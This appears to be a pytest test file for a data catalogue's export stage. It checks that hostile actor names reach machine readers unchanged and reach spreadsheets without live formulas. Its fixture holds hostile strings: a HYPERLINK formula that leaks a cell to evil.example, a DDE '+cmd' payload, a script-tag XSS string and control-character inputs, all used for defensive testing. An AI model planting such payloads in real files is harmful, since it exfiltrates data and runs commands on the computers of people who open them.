"""Bad input by its name, read back by the programs that people open the files with."""

import csv
import gzip
import json
import sqlite3
from collections.abc import Callable, Mapping
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import odf.opendocument
import odf.table
import odf.teletype
import openpyxl
import polars
import pyarrow.parquet
import pytest
import python_calamine
from geojson_pydantic import FeatureCollection
from rdflib import Graph

from hub.distributions import shelf
from hub.distributions.contents import Contents, PublicLine
from hub.stages.export_gate import EmptyCatalogue
from hub.stages.release import Release, publish
from tests.hub.distributions.lines import actor, published

NOW = datetime(2026, 11, 3, 2, 41, tzinfo=UTC)
CONTROLS = "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0xFFFE, 0xFFFF]))
NAMES: Mapping[str, str] = {
    "control characters": f"Eau{CONTROLS}Vie",
    "line ends": "Eau\r\net\nVie\u2028fin",
    "a formula": '=HYPERLINK("https://evil.example?"&A1;"clic")',
    "a formula after a space": " +cmd|'/C calc'!A0",
    "a formula in full width": "＝1+1",
    "a formula of a tab": "\t=1+1",
    "32,768 characters": "x" * 32_768,
    "markup": "<script>alert(1)</script>]]>&amp;",
    "an emoji cut by nothing": "😀" * 20_000,
}


def in_csv(folder: Path) -> str:
    with (folder / "actors.csv").open(encoding="utf-8", newline="") as file:
        return next(csv.DictReader(file))["nom"]


def in_geojson(folder: Path) -> str:
    found = FeatureCollection.model_validate_json((folder / "actors.geojson").read_bytes())
    return str((found.features[0].properties or {})["nom"])


def in_polars(folder: Path) -> str:
    return str(polars.read_parquet(folder / "actors.parquet")["nom"][0])


def in_arrow(folder: Path) -> str:
    return str(pyarrow.parquet.read_table(folder / "actors.parquet")["nom"][0].as_py())


def in_json(folder: Path) -> str:
    with gzip.open(folder / "actors.jsonl.gz", "rt", encoding="utf-8") as lines:
        return str(json.loads(next(lines))["name"])


def in_sqlite(folder: Path) -> str:
    with closing(sqlite3.connect(folder / "catalogue.sqlite")) as connection:
        return str(connection.execute("SELECT name FROM actors").fetchone()[0])


EXACT: Mapping[str, Callable[[Path], str]] = {
    "csv": in_csv,
    "GeoJSON": in_geojson,
    "Parquet in polars": in_polars,
    "Parquet in Arrow": in_arrow,
    "JSON Lines": in_json,
    "SQLite": in_sqlite,
}


@pytest.fixture(scope="module", params=NAMES)
def told(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """A name that is bad input, and a release of one actor of that name, which the gate let through."""
    name = NAMES[request.param]
    made = publish(Contents(lines={"actor": published(actor(name=name))}), tmp_path_factory.mktemp("bad"), NOW)
    assert isinstance(made, Release)
    return name, made.folder


def test_what_machines_read_is_what_was_stated_to_the_character(told: tuple[str, Path]) -> None:
    name, folder = told

    assert {what: read(folder) for what, read in EXACT.items()} == dict.fromkeys(EXACT, name)


def test_what_spreadsheets_open_is_text_that_fits_a_cell_and_runs_nothing(told: tuple[str, Path]) -> None:
    name, folder = told
    cell = next(openpyxl.load_workbook(folder / "actors.xlsx")["Acteurs"].iter_rows(min_row=2, min_col=2, max_col=2))[0]
    sheet = python_calamine.load_workbook(folder / "actors.xlsx").get_sheet_by_name("Acteurs").to_python()
    document = odf.opendocument.load(folder / "actors.ods")
    in_ods = [
        each
        for row in document.getElementsByType(odf.table.TableRow)
        for each in row.getElementsByType(odf.table.TableCell)
    ]
    with (folder / "actors.excel.csv").open(encoding="utf-8-sig", newline="") as file:
        in_excel = next(csv.DictReader(file, delimiter=";"))["nom"]

    assert cell.data_type == "s"
    assert len(str(sheet[1][1]).encode("utf-16-le")) // 2 <= 32_767
    assert len(in_excel.encode("utf-16-le")) // 2 <= 32_767
    assert not any(each.getAttribute("formula") for each in in_ods)
    assert in_excel.lstrip()[:1] not in ("=", "+", "-", "@", "＝")
    if len(name) < 100:
        assert name.lstrip()[:1] in openpyxl.utils.escape.unescape(str(cell.value))


def test_what_linked_data_says_is_what_was_stated_and_both_parsers_agree(told: tuple[str, Path]) -> None:
    name, folder = told
    with gzip.open(folder / "actors.nt.gz", "rt", encoding="utf-8", newline="\n") as lines:
        triples = Graph().parse(data=lines.read(), format="nt")
    turtle = Graph().parse(folder / "actors.ttl", format="turtle")

    said = [{str(value) for value in graph.objects()} for graph in (triples, turtle)]
    assert name in said[0]
    assert name in said[1]


def test_half_a_character_is_in_no_release(tmp_path: Path) -> None:
    """A lone surrogate is no text: what holds one is refused at every door, and here, where none should ever come."""
    first = publish(Contents(lines={"actor": published(actor())}), tmp_path, NOW)
    broken = PublicLine(actor()["id"], b'{"id":"x","name":"\\ud800"}')

    with pytest.raises(ValueError, match="surrogate"):
        publish(Contents(lines={"actor": [broken]}), tmp_path, NOW)
    assert shelf.current(tmp_path) == first.folder


def test_an_empty_catalogue_is_published_first_when_that_is_meant_and_never_after_a_full_one(tmp_path: Path) -> None:
    empty = Contents(lines={"actor": []})
    with pytest.raises(EmptyCatalogue):
        publish(empty, tmp_path, NOW)
    assert shelf.current(tmp_path) is None

    first = publish(empty, tmp_path, NOW, allow_empty=True)
    with (first.folder / "actors.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.DictReader(file)) == []
    full = publish(Contents(lines={"actor": published(actor())}), tmp_path, NOW)
    with pytest.raises(EmptyCatalogue):
        publish(empty, tmp_path, NOW)
    assert shelf.current(tmp_path) == full.folder
